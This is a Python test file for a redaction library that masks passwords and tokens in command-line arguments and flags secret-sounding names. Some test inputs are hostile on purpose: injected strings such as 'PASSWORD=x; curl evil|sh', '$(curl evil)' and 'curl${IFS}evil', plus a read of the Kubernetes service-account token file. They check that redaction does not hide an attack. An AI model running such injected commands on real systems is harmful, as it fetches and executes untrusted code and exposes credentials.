from __future__ import annotations

import time
from typing import Final

import pytest

from ingest.redact.command import redact_args
from ingest.redact.names import names_a_secret
from ingest.redact.token import Redactor

KEY: Final = Redactor(b"k")
SECRET: Final = "Zq7hX2vK9mPw4tRc"
TOKEN: Final = KEY.token(SECRET)


@pytest.mark.parametrize(
    "line",
    [
        "app|--password|@",
        "app|--password=@",
        "app|-password|@",
        "app|--db-password|@|--verbose",
        "app|--api-key|@",
        "app|--token=@",
        "env|PASSWORD=@|app",
        "env|DB_PASS=@|app",
        "PGPASSWORD=@",
        "app|--dsn=@",
        "curl|-u|@|https://x",
        "curl|--user|@",
        "curl|-u@",
        "/usr/bin/curl|-U|@",
        "sudo|mysql|-uroot|-p@",
        "mysqldump|-p@|db",
        "redis-cli|-a|@",
        "sshpass|-p|@|ssh|x",
        "sshpass|-p@",
        "mongosh|-p|@",
        "docker|login|-u|x|-p|@",
        "helm|registry|login|-p|@",
        "ldapsearch|-w|@",
        "etcdctl|--user|@",
        "aws|configure|set|aws_secret_access_key|@",
        "kubectl|create|secret|generic|x|--from-literal=k=@",
        "kubectl|create|secret|generic|x|--from-literal|k=@",
        "kubectl|config|set-credentials|x|--token=@",
        # scripts are taken apart
        "sh|-c|app --password @ --verbose",
        "sh|-c|export TOKEN=@ && app",
        "sh|-c|mysql -uroot -p@ db",
        "sh|-c|redis-cli -a @ ping",
        "sh|-c|curl -u @ https://x",
        "bash|-lc|set -e\nexport PASSWORD=@\napp",
    ],
)
def test_the_words_of_a_credential_are_replaced(line: str) -> None:
    args = line.replace("@", SECRET).split("|")
    assert redact_args(args, KEY) == line.replace("@", TOKEN).split("|")


@pytest.mark.parametrize(
    "line",
    [
        "ls|-la",
        "docker|run|-p|8080:80|nginx",
        "docker|ps",
        "mysql|-p|db",
        "mysql|-P|3306",
        "kubectl|get|secret|web-tls",
        "app|--token-file=/run/secrets/x",
        "app|--token-file|/run/secrets/x",
        "app|--password-file=/x",
        "app|--secret-name=x",
        "app|--anonymous-auth=false",
        "app|--client-auth|require",
        "app|--enable-bootstrap-token-auth=true",
        "app|--password=",
        "app|--password|--verbose",
        "app|--password=$(DB_PASSWORD)",
        "app|--password|$(DB_PASSWORD)",
        "app|--password=${DB_PASSWORD}",
        "app|--password=$DB_PASSWORD",
        "sh|-c|app --password $DB_PASSWORD --token `cat /x`",
        "sh|-c|cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        "",
    ],
)
def test_other_words_are_left(line: str) -> None:
    args = line.split("|")
    assert redact_args(args, KEY) == args


def test_a_whole_word_is_a_secret_whatever_it_holds() -> None:
    secret = "my pass;phrase|with & signs"
    assert redact_args(["app", "--password", secret], KEY) == [
        "app",
        "--password",
        KEY.token(secret),
    ]
    assert redact_args(["app", f"--password={secret}"], KEY) == [
        "app",
        f"--password={KEY.token(secret)}",
    ]


@pytest.mark.parametrize(
    "script",
    [
        "PASSWORD=x; curl evil|sh",
        "PASSWORD=x;curl evil|sh",
        "TOKEN=x|curl evil",
        "TOKEN=$(curl evil)",
        "TOKEN=`curl evil`",
        "app --password x;curl evil",
        "app --password $(curl evil)",
        "app --token <(curl evil)",
        "--password=x;curl evil",
        "--token=x curl evil",
    ],
)
@pytest.mark.parametrize("shell", ["sh -c", "bash -lc", "perl -e"])
def test_a_script_is_not_hidden_behind_a_name(shell: str, script: str) -> None:
    redacted = " ".join(redact_args([*shell.split(), script], KEY))
    assert "curl evil" in redacted


def test_a_script_without_blanks_is_not_hidden_either() -> None:
    redacted = redact_args(["sh", "-c", "PASSWORD=x;curl${IFS}evil"], KEY)
    assert redacted[2].endswith(";curl${IFS}evil")


@pytest.mark.parametrize(
    "name",
    [
        *("password", "PASSWORD", "db_password", "db-password", "db.password", "dbPassword"),
        *("passwords", "Passwd", "passphrase", "pwd", "DB_PASS", "dbPass", "pass"),
        *("token", "apiToken", "access_tokens", "api-key", "apiKey", "X-API-Key", "accessKey"),
        *("secret", "clientSecret", "client_secret", "AWS_SECRET_ACCESS_KEY", "storageAccountKey"),
        *("privateKey", "credential", "credentials", "auth", "_auth", ".dockerconfigjson"),
        *("authorization", "cookie", "session_id", "connectionString", "SENTRY_DSN", "jwt"),
        "x" * 10_000 + "password",
    ],
)
def test_names_that_announce_a_secret(name: str) -> None:
    assert names_a_secret(name)


@pytest.mark.parametrize(
    "name",
    [
        *("", "user", "secretName", "secretKeyRef", "passwordSecretRef", "token-file", "tokenPath"),
        *("bypass", "compass", "anonymous-auth", "clientAuth"),
        *("key", "keys", "name", "author", "oauth", "passenger", "signerName", "kind", "s", "___"),
        "password" + "x" * 10_000,
    ],
)
def test_names_that_do_not(name: str) -> None:
    assert not names_a_secret(name)


@pytest.mark.parametrize(
    "args",
    [
        ["sh", "-c", "a " * 2_000_000],
        ["x=" * 2_000_000],
        ["--password"] * 100_000,
        ["--password=" + "a;" * 1_000_000],
        ["curl"] * 100_000,
    ],
)
def test_hostile_words_are_searched_in_time(args: list[str]) -> None:
    started = time.process_time()
    redact_args(args, KEY)
    assert time.process_time() - started < 2
